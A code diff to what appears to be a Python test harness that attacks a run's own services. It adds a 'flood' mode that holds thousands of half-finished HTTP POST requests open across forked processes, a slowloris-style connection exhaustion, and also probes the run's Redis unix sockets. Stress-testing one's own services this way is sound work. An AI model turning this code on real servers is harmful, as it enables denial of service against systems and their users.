@@ -11,6 +11,13 @@ command line), then until the run ends it tries to
   retention, withdraw effects, send an effect.
 
 It prints one JSON report: every reply it got, by target.
+
+`flood <pid or 0> <seconds> <connections> [<port>...]` instead holds as many connections as it can,
+up to <connections>, to every port that run's provider listens on (or to the ports named), each
+with a request begun and never finished (`POST ... HTTP/1.1`, a header line, no end), and opens
+another for each one the server closes; also in processes of its own where one process may not
+hold that many descriptors. It tries the run's unix sockets too. It prints one JSON report: its
+connections opened, closed by the server and most held at once, and the errors it met, by kind.
 """
 
 from __future__ import annotations
@@ -19,9 +26,12 @@ import http.client
 import json
 import os
 import re
+import resource
+import select
 import socket
 import sys
 import time
+from collections import Counter
 from collections.abc import Callable
 from dataclasses import asdict, dataclass, field
 
@@ -149,7 +159,74 @@ def provider_attack(port: int, run: str) -> list[int | str]:
     return statuses
 
 
+HALF_SENT = b"POST /ledgers/x/effects HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
+
+
+def hold(connect: Callable[[], socket.socket], share: int, deadline: float) -> dict[str, int]:
+    """Holds up to `share` half-sent requests until `deadline`, replacing each the server closes."""
+    held: dict[int, socket.socket] = {}
+    poller = select.epoll()
+    counts: Counter[str] = Counter()
+    while time.monotonic() < deadline:
+        for _ in range(min(share - len(held), 2000)):  # a round's new connections, then a look at the old
+            try:
+                conn = connect()
+                conn.sendall(HALF_SENT)
+            except OSError as exc:
+                counts[type(exc).__name__] += 1
+                break
+            conn.setblocking(False)
+            held[conn.fileno()] = conn
+            poller.register(conn.fileno(), select.EPOLLIN | select.EPOLLRDHUP)
+            counts["opened"] += 1
+        counts["most_held"] = max(counts["most_held"], len(held))
+        for fd, _ in poller.poll(0.05):
+            poller.unregister(fd)
+            held.pop(fd).close()
+            counts["closed_by_server"] += 1
+    for conn in held.values():
+        conn.close()
+    return dict(counts)
+
+
+def flood(root: int, seconds: float, connections: int, ports: list[int]) -> dict[str, object]:
+    deadline = time.monotonic() + seconds
+    found = Targets()
+    while root and not found.provider_port and time.monotonic() < deadline and os.path.exists(f"/proc/{root}"):
+        found = targets(root)
+        time.sleep(0.02)
+    ports = ports or ([found.provider_port] if found.provider_port else [])
+    unix_replies = {path: redis_attack(unix(path))[:1] for path in sorted(found.redis_unix)}
+    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
+    per_process = max(most - 100, 100)
+    shares = [min(per_process, connections - n) for n in range(0, connections, per_process)]
+    children = []
+    for port in ports:
+        for share in shares:
+            reader, writer = os.pipe()
+            pid = os.fork()
+            if pid == 0:
+                os.close(reader)
+                report = json.dumps(hold(tcp(port), share, deadline)).encode()
+                os.write(writer, report)
+                os._exit(0)
+            os.close(writer)
+            children.append((pid, reader))
+    totals: Counter[str] = Counter()
+    for pid, reader in children:
+        with os.fdopen(reader, "rb") as out:
+            for kind, n in json.loads(out.read() or b"{}").items():
+                totals[kind] += n
+        os.waitpid(pid, 0)
+    return {"uid": os.getuid(), "ports": ports, "processes": len(children), "unix": unix_replies, **totals}
+
+
 def main() -> None:
+    if sys.argv[1] == "flood":
+        ports = [int(p) for p in sys.argv[5:]]
+        print(json.dumps(flood(int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4]), ports)))
+        return
     root, deadline = int(sys.argv[1]), time.monotonic() + float(sys.argv[2])
     redis: dict[str, list[str]] = {}
     provider: list[int | str] = []
